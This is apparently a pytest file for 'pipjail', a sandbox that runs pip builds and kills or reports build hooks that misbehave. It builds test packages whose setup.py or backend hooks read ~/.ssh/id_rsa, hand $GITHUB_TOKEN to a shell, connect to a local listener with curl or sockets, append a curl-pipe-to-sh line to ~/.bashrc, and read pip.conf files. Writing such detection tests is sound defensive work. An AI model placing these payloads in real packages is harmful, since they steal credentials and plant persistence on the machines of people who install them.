"""The verdict (issue 4), from real pip runs in the jail.

Each attack is a package of its own whose build does one bad thing, in a
plain setup.py (no pyproject.toml: pipjail makes pip build it through PEP
517, PIP_USE_PEP517=1, so setup.py first runs in setuptools' own
get_requires_for_build_wheel) and in a PEP 517 in-tree backend
(backend.py, backend-path ["."]) in get_requires_for_build_wheel or
build_wheel.  Each must be caught and attributed to its package and hook;
in enforce mode the violator is killed (exit 101, the process chain shown),
with --audit it is reported and nothing is killed (exit 100); the JSON
report holds the violation; `pipjail replay` of the trace gives the same
verdict.  Benign twins: a clean sdist with a C extension passes with no
violation, and a clean package next to a bad one is not named.  Then the
profile errors and the project's .pipjail.json.  Rules: docs/profiles.md,
report: docs/report-format.md."""
import json
import os
import secrets

import pytest

from lib import pyproj
from lib.host import accepted
from lib.pj import runuser
from lib.sdist import make_sdist

# ---------------------------------------------------------------- fixtures



class Project:
    """A test's directory (owned by the test user): dist/ for sdists,
    venv/ copied from the session's base venv, the trace and report."""

    def __init__(self, pj, session_dir, workdir):
        self.pj = pj
        self.user = pj.user
        self.dir = workdir
        self.dist = os.path.join(workdir, "dist")
        os.mkdir(self.dist)
        self.venv = pyproj.copy_venv(pyproj.base_venv(session_dir, self.user),
                                     os.path.join(workdir, "venv"), self.user)
        self.trace = os.path.join(workdir, "t.jsonl")
        self.report = os.path.join(workdir, "r.json")
        self.site_before = sorted(os.listdir(pyproj.site_packages(self.venv)))

    def install(self, *names, opts=(), pip_opts=(), timeout=600, cwd=None):
        pyproj.chown_tree(self.dir, self.user)
        return self.pj.run(*opts, "--trace", self.trace, "--report", self.report, "--",
                           *pyproj.pip_args(self.venv, self.dist), *pip_opts, *names,
                           timeout=timeout, cwd=cwd)

    def load_report(self, path=None):
        with open(path or self.report) as f:
            return json.load(f)

    def load_trace(self):
        return pyproj.read_trace(self.trace)

    def site_unchanged(self):
        return sorted(os.listdir(pyproj.site_packages(self.venv))) == self.site_before


@pytest.fixture
def project(pj, session_dir, workdir):
    return Project(pj, session_dir, workdir)


# ---------------------------------------------------------------- attacks

# Marker files the payload tries to open right after its attack: a failed
# open of /nonexistent-pipjail/after-NAME in the trace shows that the
# attacker went on after its violation.
AFTER = "/nonexistent-pipjail/after-"


def after(name):
    return (f"try:\n    open({AFTER + name!r})\nexcept OSError:\n    pass\n")


class Attack:
    def __init__(self, name, code, rule, kind, roles, chain_tail, killed_in_kernel=False,
                 refused_first=False):
        self.name = name
        self.code = code          # Python, run in the build; {port} {venv} filled in
        self.rule = rule
        self.kind = kind
        self.roles = roles        # roles the violation may be charged to
        self.chain_tail = chain_tail  # what follows "pip → HOOK" in the chain
        # the kernel kills the violator at the call itself: it never acts
        # after it (denied programs, pip-only files: see bpf/monitor.bpf.c)
        self.killed_in_kernel = killed_in_kernel
        # the kernel refuses the call itself (nothing leaves) and the
        # violator may end before the user-space kill: then "kill failed
        # (the process was already gone)", exit 100 (docs/profiles.md)
        self.refused_first = refused_first


# The attacks the kernel does not stop at the call itself go on for a
# while after it (time.sleep): a real payload goes on to use what it got,
# and a hook that returned at once could end before pipjail's kill lands.
LINGER = "import time\ntime.sleep(3)\n"

ATTACKS = {a.name: a for a in [
    Attack("ssh",
           "import os\nopen(os.path.expanduser('~/.ssh/id_rsa')).read()\n" + after("ssh"),
           "decoy-read", "file", {"build"}, "", killed_in_kernel=True),
    Attack("token",
           "import os, subprocess\n"
           "subprocess.call(['/bin/sh', '-c', 'sleep 3; echo done', 'x', os.environ['GITHUB_TOKEN']],"
           " stdout=subprocess.DEVNULL)\n",
           "decoy-token", "exec", {"build", "tool"}, " → sh"),
    # the default profile judges what curl does (its connect), not its name;
    # Landlock refuses the connect in the kernel (EACCES) and curl gives up
    # at once: the user-space kill may find it gone (refused_first)
    Attack("curl",
           "import subprocess\n"
           "subprocess.call(['/bin/sh', '-c', 'curl -s -m 5 --noproxy \"*\" http://127.0.0.1:{port}/x;"
           " sleep 3; true'])\n",
           "network", "network", {"tool"}, " → sh → curl", refused_first=True),
    Attack("write",
           "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n"
           "    f.write('curl http://127.0.0.1:1/x | sh\\n')\n" + LINGER + after("write"),
           "file-write", "file", {"build"}, ""),
    Attack("connect",
           "import socket\ns = socket.socket()\ns.settimeout(3)\n"
           "try:\n    s.connect(('127.0.0.1', {port}))\nexcept OSError:\n    pass\n"
           + LINGER + after("connect"),
           "network", "network", {"build"}, ""),
    # the target venv's pip.conf (pip reads it: docs/proxy.md), made by the test
    Attack("pipconf",
           "print(open({venv!r} + '/pip.conf').read())\n" + after("pipconf"),
           "file-read", "file", {"build"}, "", killed_in_kernel=True),
    # the system's pip.conf, when the machine has one
    Attack("etcpipconf",
           "print(open('/etc/pip.conf').read())\n" + after("etcpipconf"),
           "file-read", "file", {"build"}, "", killed_in_kernel=True),
]}

STYLES = ["setup.py", "backend"]
# The backend hook each attack runs in: both hooks are covered.
BACKEND_HOOK = {"ssh": "get_requires_for_build_wheel", "token": "build_wheel",
                "curl": "get_requires_for_build_wheel", "write": "build_wheel",
                "connect": "build_wheel", "pipconf": "get_requires_for_build_wheel",
                "etcpipconf": "build_wheel"}


def make_attack(project, attack, style, port, pkg=None):
    """Build the attack's sdist; returns (package name, the hook it runs in)."""
    pkg = pkg or f"evil-{attack.name}"
    if attack.name == "etcpipconf" and not os.path.isfile("/etc/pip.conf"):
        pytest.skip("no /etc/pip.conf on this machine (the test does not create one: "
                    "every pip on the host would read it)")
    code = attack.code.replace("{port}", str(port)).replace("{venv!r}", repr(project.venv))
    if attack.name == "pipconf":
        with open(os.path.join(project.venv, "pip.conf"), "w") as f:
            f.write("[global]\ntimeout = 60\n")
    if style == "setup.py":
        pyproj.legacy_sdist(project.dist, pkg, "1.0", code)
        return pkg, "get_requires_for_build_wheel"
    hook = BACKEND_HOOK[attack.name]
    pyproj.backend_sdist(project.dist, pkg, "1.0", code, hook)
    return pkg, hook


def norm(name):
    return name.replace("_", "-").lower()


def violations_of(report, attack):
    return [v for v in report["violations"] if v["rule"] == attack.rule]


def check_violation(v, attack, pkg, hook, report):
    assert norm(v["package"]) == pkg and v["version"] == "1.0", v
    assert v["hook"] == hook, v
    assert v["role"] in attack.roles, v
    assert v["kind"] == attack.kind, v
    assert v["evidence"], v
    assert v["chain"] == f"pip → {hook}{attack.chain_tail}", v
    assert v["pids"] and len(v["pids"]) == v["chain"].count("→") + 1 and v["pids"][-1] == v["pid"], v
    assert v["hpid"] > 0 and v["t_mono"] > 0 and v["time"], v
    for field in ("detail", "action", "outcome", "done"):
        assert field in v, v
    if attack.rule in ("file-read", "file-write", "exec", "network"):
        assert report["profile"]["name"] == "default", report["profile"]
        assert v["profile_file"] == report["profile"]["path"], v
        assert os.path.basename(v["profile_file"]) == "default.json", v
    pkgs = [p for p in report["packages"] if norm(p["name"]) == pkg]
    assert len(pkgs) == 1 and pkgs[0]["verdict"] == "violation", report["packages"]
    assert hook in pkgs[0]["hooks"], pkgs


def evidence_ok(v, attack, project, port):
    ev = v["evidence"]
    if attack.name == "ssh":
        return "/.ssh/id_rsa" in ev
    if attack.name == "token":
        return "sh" in ev
    if attack.name == "curl":
        return f"127.0.0.1:{port}" in ev
    if attack.name == "write":
        return ".bashrc" in ev
    if attack.name == "connect":
        return f"127.0.0.1:{port}" in ev
    if attack.name == "pipconf":
        return os.path.join(project.venv, "pip.conf") in ev
    if attack.name == "etcpipconf":
        return "/etc/pip.conf" in ev
    raise AssertionError(attack.name)


def events_of(trace, hpid):
    return [e for e in pyproj.events(trace) if e["hpid"] == hpid]


def replay(pj, project, *opts):
    out = os.path.join(project.dir, f"replay-{secrets.token_hex(3)}.json")
    r = pj.run("replay", project.trace, *opts, "--report", out)
    with open(out) as f:
        return r, json.load(f)


def key(v):
    return (v["rule"], norm(v["package"] or "pip"), v["hook"], v["role"], v["pid"])


@pytest.mark.parametrize("style", STYLES)
@pytest.mark.parametrize("name", list(ATTACKS))
def test_attack_is_killed_in_enforce_mode(pj, project, host_listener, test_user, style, name):
    attack = ATTACKS[name]
    port = host_listener.getsockname()[1]
    pkg, hook = make_attack(project, attack, style, port)
    bashrc = os.path.join(test_user.home, ".bashrc")
    bashrc_before = open(bashrc, "rb").read() if os.path.exists(bashrc) else None
    r = project.install(pkg)
    rep = project.load_report()
    assert rep["verdict"] == "violation" and rep["mode"] == "enforce", str(r)
    vs = violations_of(rep, attack)
    assert vs, f"no {attack.rule} violation\n{r}\n{json.dumps(rep['violations'], indent=1)}"
    v = vs[0]
    check_violation(v, attack, pkg, hook, rep)
    assert evidence_ok(v, attack, project, port), v
    if attack.refused_first and not v["done"]:
        # refused in the kernel, and gone before the kill: said so, exit 100
        assert v["call_failed"] and "already gone" in v["outcome"], v
        assert r.returncode == 100 and rep["exit"]["code"] == 100, str(r)
        assert not accepted(host_listener), "a build reached the host's listener"
        assert project.site_unchanged(), "a violating install was committed"
        return
    # killed: pipjail says so and exits 101
    assert r.returncode == 101, str(r)
    assert rep["killed"] is True and rep["exit"]["code"] == 101, rep["exit"]
    assert v["action"] == "kill-process" and v["done"] is True and v["outcome"].startswith("killed"), v
    # on stderr: the package, the hook, the rule, the chain, what was done
    assert f"{pkg} 1.0: violation" in r.stderr or f"{pkg.replace('-', '_')} 1.0: violation" in r.stderr, str(r)
    assert f"✗ {attack.rule}:" in r.stderr, str(r)
    assert f"chain:    {v['chain']}" in r.stderr, str(r)
    assert "done:     killed" in r.stderr, str(r)
    # the violator died of SIGKILL
    t = project.load_trace()
    exits = [e for e in events_of(t, v["hpid"]) if e["kind"] == "exit" and not e["thread"]]
    assert len(exits) == 1 and exits[0].get("signal") == "SIGKILL", exits
    if attack.killed_in_kernel:
        # killed at the call: it did nothing after it
        later = [e for e in events_of(t, v["hpid"]) if e["kind"] not in ("exec", "exit")
                 and e["t_mono"] > v["t_mono"]]
        assert not later, f"the violator went on after its violation: {later[:3]}"
        assert not [e for e in events_of(t, v["hpid"]) if e["kind"] == "connect"], \
            "the denied program reached connect()"
    elif attack.name != "token":
        # killed within the payload's 3 s of lingering
        assert not any(e["kind"] == "open" and e.get("path") == AFTER + name
                       for e in pyproj.events(t)), \
            "the violator was still running 3 s after its violation"
    # nothing reached the host
    assert not accepted(host_listener), "a build reached the host's listener"
    assert project.site_unchanged(), "a violating install was committed"
    if bashrc_before is not None:
        assert open(bashrc, "rb").read() == bashrc_before


@pytest.mark.parametrize("style", STYLES)
@pytest.mark.parametrize("name", list(ATTACKS))
def test_attack_is_reported_in_audit_mode_and_replay_agrees(pj, project, host_listener, style, name):
    attack = ATTACKS[name]
    port = host_listener.getsockname()[1]
    pkg, hook = make_attack(project, attack, style, port)
    r = project.install(pkg, opts=("--audit",))
    assert r.returncode == 100, str(r)
    rep = project.load_report()
    assert rep["verdict"] == "violation" and rep["mode"] == "audit" and rep["killed"] is False, rep
    vs = violations_of(rep, attack)
    assert vs, f"no {attack.rule} violation\n{r}"
    v = vs[0]
    check_violation(v, attack, pkg, hook, rep)
    assert evidence_ok(v, attack, project, port), v
    assert all(x["done"] is False for x in rep["violations"]), rep["violations"]
    assert "audit" in v["outcome"], v
    assert "done:     killed" not in r.stderr and "nothing was killed" in r.stderr, str(r)
    # nothing was killed: no kill by the kernel, the violator ended on its
    # own, and the payload went on after its attack (a SIGKILL from pip
    # itself, such as its 0.5 s timeout on `rustc --version` for its user
    # agent on a loaded machine, is not pipjail's)
    t = project.load_trace()
    for e in pyproj.events(t):
        assert not e.get("killed_in_kernel"), e
        assert e["kind"] != "exit" or e.get("signal") != "SIGKILL" or e["hpid"] != v["hpid"], e
    if AFTER + name in attack.code:
        assert any(e["kind"] == "open" and e.get("path") == AFTER + name for e in pyproj.events(t)), \
            "the payload did not go on after its attack in audit mode"
    assert not accepted(host_listener), "a build reached the host's listener"
    assert project.site_unchanged(), "an install with violations was committed"
    # replay gives the same verdict from the trace alone
    rr, rrep = replay(pj, project)
    assert rr.returncode == 100, str(rr)
    assert rrep["mode"] == "replay" and rrep["verdict"] == "violation", rrep
    assert sorted(map(key, rrep["violations"])) == sorted(map(key, rep["violations"])), \
        f"live: {sorted(map(key, rep['violations']))}\nreplay: {sorted(map(key, rrep['violations']))}"
    assert f"chain:    {v['chain']}" in rr.stderr, str(rr)
    # and under the forensic profile (report only, probes count): at least as much
    fr, frep = replay(pj, project, "--profile", "forensic")
    assert fr.returncode == 100, str(fr)
    assert frep["profile"]["name"] == "forensic", frep["profile"]
    assert set(map(key, rep["violations"])) <= set(map(key, frep["violations"])), \
        f"live: {sorted(map(key, rep['violations']))}\nforensic: {sorted(map(key, frep['violations']))}"
    assert all(x["action"] == "report" for x in frep["violations"]), frep["violations"]


SHORT = {
    # `/bin/echo $GITHUB_TOKEN`: echo is gone before a kill from user space
    # can land
    "echo-token": ("import os, subprocess\n"
                   "subprocess.call(['/bin/echo', os.environ['GITHUB_TOKEN']], stdout=subprocess.DEVNULL)\n",
                   "decoy-token", "pip → build_wheel → echo"),
    # a hook that writes ~/.bashrc and returns at once
    "write-return": ("import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n"
                     "    f.write('x\\n')\n",
                     "file-write", "pip → build_wheel"),
}


@pytest.mark.parametrize("case", list(SHORT))
def test_short_lived_violator_is_caught_and_reported_honestly(pj, project, case):
    # The violation must be caught and attributed; what was done must be
    # what happened: "killed" (exit 101) only if the kill landed.
    code, rule, chain = SHORT[case]
    pkg = f"evil-{case}"
    pyproj.backend_sdist(project.dist, pkg, "1.0", code, "build_wheel")
    r = project.install(pkg)
    rep = project.load_report()
    vs = [v for v in rep["violations"] if v["rule"] == rule]
    assert vs, str(r)
    v = vs[0]
    assert norm(v["package"]) == pkg and v["hook"] == "build_wheel", v
    assert v["chain"] == chain, v
    if rule == "decoy-token":
        token = next(d["token"] for d in pyproj.header(project.load_trace())["decoys"]
                     if d["where"] == "$GITHUB_TOKEN")
        assert token in v["evidence"] and "/bin/echo" in v["evidence"], v
    assert v["action"] == "kill-process", v
    t = project.load_trace()
    exits = [e for e in events_of(t, v["hpid"]) if e["kind"] == "exit" and not e["thread"]]
    assert len(exits) == 1, exits
    if v["done"]:
        assert exits[0].get("signal") == "SIGKILL", exits
        assert r.returncode == 101 and v["outcome"] == "killed", str(r)
    else:
        assert exits[0].get("signal") != "SIGKILL", exits
        assert r.returncode == 100 and "already gone" in v["outcome"], str(r)
        assert "already gone" in r.stderr, str(r)
    assert project.site_unchanged()


def test_enforce_trace_replays_to_the_same_verdict(pj, project, host_listener):
    attack = ATTACKS["ssh"]
    pkg, hook = make_attack(project, attack, "backend", host_listener.getsockname()[1])
    r = project.install(pkg)
    assert r.returncode == 101, str(r)
    rep = project.load_report()
    rr, rrep = replay(pj, project)
    assert rrep["verdict"] == "violation" and rrep["mode"] == "replay", rrep
    live = {(v["rule"], norm(v["package"]), v["hook"], v["chain"]) for v in rep["violations"]
            if v["rule"] != "proxy"}   # the proxy's own refusals are not in the event stream
    again = {(v["rule"], norm(v["package"]), v["hook"], v["chain"]) for v in rrep["violations"]}
    assert live <= again, f"live: {live}\nreplay: {again}"
    # A replay kills nothing; a kill the kernel made in the live run is in
    # the trace (killed_in_kernel) and is reported as done.
    read = [v for v in rrep["violations"] if v["rule"] == "decoy-read"]
    assert read, rrep["violations"]
    opens = [e for e in pyproj.events(project.load_trace())
             if e["kind"] == "open" and e["hpid"] == read[0]["hpid"] and "id_rsa" in (e.get("path") or "")]
    assert opens, "the decoy's open is in the trace"
    if opens[0].get("killed_in_kernel"):
        assert read[0]["done"] is True and read[0]["outcome"] == "killed", read[0]
    else:
        assert read[0]["done"] is False and read[0]["outcome"] == "reported (a live run kills it)", read[0]
    killed = any(v["done"] for v in rrep["violations"])
    assert rr.returncode == (101 if killed else 100), str(rr)
    assert rrep["exit"]["code"] == rr.returncode, rrep["exit"]


# ---------------------------------------------------------------- benign twins

CEXT = r"""
#define PY_SSIZE_T_CLEAN
#include <Python.h>

static PyObject *add(PyObject *self, PyObject *args)
{
    long a, b;
    if (!PyArg_ParseTuple(args, "ll", &a, &b))
        return NULL;
    return PyLong_FromLong(a + b);
}

static PyMethodDef methods[] = {
    {"add", add, METH_VARARGS, "a + b"},
    {NULL, NULL, 0, NULL},
};

static struct PyModuleDef mod = {PyModuleDef_HEAD_INIT, "cadd", NULL, -1, methods};

PyMODINIT_FUNC PyInit_cadd(void) { return PyModule_Create(&mod); }
"""


def test_clean_c_extension_passes_the_default_profile(pj, project, test_user):
    if not os.path.exists("/usr/include/python3.11/Python.h"):
        pytest.skip("python3-dev (Python.h) is not installed: add python3-dev to scripts/deps.sh")
    make_sdist(project.dist, "cadd", "1.0", {
        "cadd.c": CEXT,
        "setup.py": ("from setuptools import setup, Extension\n"
                     "setup(name='cadd', version='1.0', ext_modules=[Extension('cadd', ['cadd.c'])])\n"),
    })
    r = project.install("cadd")
    assert r.returncode == 0, str(r)
    rep = project.load_report()
    assert rep["verdict"] == "clean" and rep["violations"] == [], \
        f"{r}\n{json.dumps(rep['violations'], indent=1)}"
    assert "pipjail: clean:" in r.stderr and "cadd 1.0" in r.stderr, str(r)
    pkgs = [p for p in rep["packages"] if p["name"] == "cadd"]
    assert pkgs and pkgs[0]["verdict"] == "clean", rep["packages"]
    # gcc really ran in the build, as a tool of cadd's build_wheel
    t = project.load_trace()
    cc = [e for e in pyproj.events(t) if e["kind"] == "exec"
          and os.path.basename(e.get("file") or "").startswith(("cc1", "gcc", "x86_64-linux-gnu-gcc"))]
    assert cc, "no compiler ran"
    assert all(e.get("package") == "cadd" and e.get("role") == "tool" for e in cc), cc[:2]
    out = runuser(test_user, f"{project.venv}/bin/python", "-c", "import cadd; print(cadd.add(2, 40))")
    assert out.stdout.strip() == "42", str(out)


@pytest.mark.parametrize("style", STYLES)
def test_clean_package_of_each_style_passes(pj, project, test_user, style):
    if style == "setup.py":
        pyproj.legacy_sdist(project.dist, "calm", "1.0", "import os\nos.getcwd()\n")
        # the PEP 517 path of a plain setup.py needs `wheel`, which this venv
        # lacks: pip uses `setup.py install`
    else:
        pyproj.backend_sdist(project.dist, "calm", "1.0", "import os\nos.listdir('.')\n",
                             "build_wheel")
    r = project.install("calm")
    assert r.returncode == 0, str(r)
    rep = project.load_report()
    assert rep["verdict"] == "clean" and not rep["violations"], rep["violations"]
    out = runuser(test_user, f"{project.venv}/bin/python", "-c", "import calm; print(calm.VERSION)")
    assert out.stdout.strip() == "1.0", str(out)


def test_two_packages_only_the_bad_one_is_named(pj, project, host_listener):
    pyproj.backend_sdist(project.dist, "goodpkg", "2.0", "import os\nos.listdir('.')\n",
                         "build_wheel")
    attack = ATTACKS["ssh"]
    pkg, hook = make_attack(project, attack, "backend", host_listener.getsockname()[1],
                            pkg="badpkg")
    r = project.install("goodpkg", "badpkg", opts=("--audit",))
    assert r.returncode == 100, str(r)
    rep = project.load_report()
    assert rep["violations"], rep
    assert {norm(v["package"]) for v in rep["violations"]} == {"badpkg"}, rep["violations"]
    by_name = {norm(p["name"]): p for p in rep["packages"]}
    assert by_name["badpkg"]["verdict"] == "violation", by_name
    assert by_name["goodpkg"]["verdict"] == "clean" and by_name["goodpkg"]["violations"] == 0, by_name
    assert "goodpkg 2.0: clean" in r.stderr and "badpkg 1.0: violation" in r.stderr, str(r)
    # and in enforce mode: killed, named, the good one still clean
    r = project.install("goodpkg", "badpkg")
    assert r.returncode == 101, str(r)
    rep = project.load_report()
    assert {norm(v["package"]) for v in rep["violations"]} == {"badpkg"}, rep["violations"]
    assert project.site_unchanged()


# ---------------------------------------------------------------- profile errors

BAD_PROFILES = {
    "bad-json": ('{ "name": "x", "roles": { "build": { } }, }\n',
                 ["line 1, column", "expected valid JSON"]),
    "unknown-key": ('{"roles": {"build": {"raed": {"default": "deny"}}}}\n',
                    ["roles.build.raed", 'unknown key "raed"', "expected one of"]),
    "wrong-type": ('{"roles": {"build": {"read": {"allow": ["/usr/**", 42]}}}}\n',
                   ["roles.build.read.allow[1]", "found a number (42)", "expected a string"]),
    "bad-glob": ('{"roles": {"build": {"read": {"deny": ["/x/[ab"]}}}}\n',
                 ["roles.build.read.deny[0]", "/x/[ab", "not a valid glob"]),
    "unknown-variable": ('{"roles": {"build": {"read": {"deny": ["$FOO/x"]}}}}\n',
                         ["roles.build.read.deny[0]", "unknown variable $FOO", "$HOME"]),
}


def write_user_file(path, text, user):
    with open(path, "w") as f:
        f.write(text)
    os.chown(path, user.uid, user.gid)
    return path


def check_profile_error(r, path, needles):
    assert r.returncode == 125, str(r)
    lines = [l for l in r.stderr.splitlines() if l.strip()]
    assert len(lines) == 1, f"expected one line on stderr\n{r}"
    line = lines[0]
    assert line.startswith(f"pipjail: profile {path}") or path in line, str(r)
    for n in needles:
        assert n in line, f"{n!r} not in the message\n{r}"


@pytest.mark.parametrize("case", list(BAD_PROFILES))
def test_bad_profile_is_refused_with_its_reason(pj, workdir, test_user, case):
    text, needles = BAD_PROFILES[case]
    path = write_user_file(os.path.join(workdir, f"{case}.json"), text, test_user)
    r = pj.run("--profile", path, "--", "/bin/sh", "-c", "echo RAN")
    check_profile_error(r, path, needles)
    assert "RAN" not in r.stdout, str(r)
    r = pj.run("profile", "check", path)
    check_profile_error(r, path, needles)


def test_extends_loop_is_refused(pj, workdir, test_user):
    c = write_user_file(os.path.join(workdir, "c.json"), '{"extends": "./d.json"}\n', test_user)
    d = write_user_file(os.path.join(workdir, "d.json"), '{"extends": "./c.json"}\n', test_user)
    for path in (c, d):
        for args in (("--profile", path, "--", "/bin/sh", "-c", "echo RAN"),
                     ("profile", "check", path)):
            r = pj.run(*args)
            check_profile_error(r, path, ["extends", "found a loop", "c.json", "d.json",
                                          "expected a chain of extends that ends"])
            assert "RAN" not in r.stdout, str(r)


def test_good_profile_is_accepted_by_profile_check(pj, workdir, test_user):
    # Benign twin of the error cases.
    path = write_user_file(os.path.join(workdir, "good.json"),
                           '{"extends": "default", "roles": {"build": {"read": '
                           '{"deny": ["$HOME/secret/**", "/x/[ab]"]}}}}\n', test_user)
    r = pj.run("profile", "check", path)
    assert r.returncode == 0, str(r)
    r = pj.run("--profile", path, "--", "/bin/sh", "-c", "echo RAN")
    assert r.returncode == 0 and "RAN" in r.stdout, str(r)


# ---------------------------------------------------------------- project profile

def test_project_pipjail_json_is_used_and_reported(pj, workdir, test_user):
    # The project's profile forbids the pip role to read /etc/hostname.
    write_user_file(os.path.join(workdir, ".pipjail.json"),
                    '{"name": "myproject", "extends": "default", "roles": {"pip": {"read": '
                    '{"deny": ["/etc/hostname"]}}}}\n', test_user)
    report = os.path.join(workdir, "r.json")
    r = pj.run("--report", report, "--", "/bin/cat", "/etc/hostname", cwd=workdir)
    assert r.returncode == 100, str(r)
    with open(report) as f:
        rep = json.load(f)
    prof = rep["profile"]
    assert prof["project"] is True and prof["name"] == "myproject", prof
    assert prof["path"] == os.path.join(workdir, ".pipjail.json"), prof
    assert prof["files"][-1] == prof["path"], prof
    assert [v["rule"] for v in rep["violations"]] == ["file-read"], rep["violations"]
    v = rep["violations"][0]
    assert "/etc/hostname" in v["evidence"] and v["profile_file"] == prof["path"], v
    assert ".pipjail.json" in r.stderr, str(r)
    # Benign twin: the same command from a directory without one is clean.
    r = pj.run("--report", report, "--", "/bin/cat", "/etc/hostname", cwd="/")
    assert r.returncode == 0, str(r)
    with open(report) as f:
        rep = json.load(f)
    assert rep["profile"]["project"] is False and rep["profile"]["name"] == "default", rep["profile"]
    # found from a subdirectory too (upwards from the cwd)
    sub = os.path.join(workdir, "src", "deep")
    os.makedirs(sub)
    r = pj.run("--report", report, "--", "/bin/cat", "/etc/hostname", cwd=sub)
    assert r.returncode == 100, str(r)
    # --profile on the command line wins over the project's
    r = pj.run("--profile", "default", "--report", report, "--", "/bin/cat", "/etc/hostname",
               cwd=workdir)
    assert r.returncode == 0, str(r)
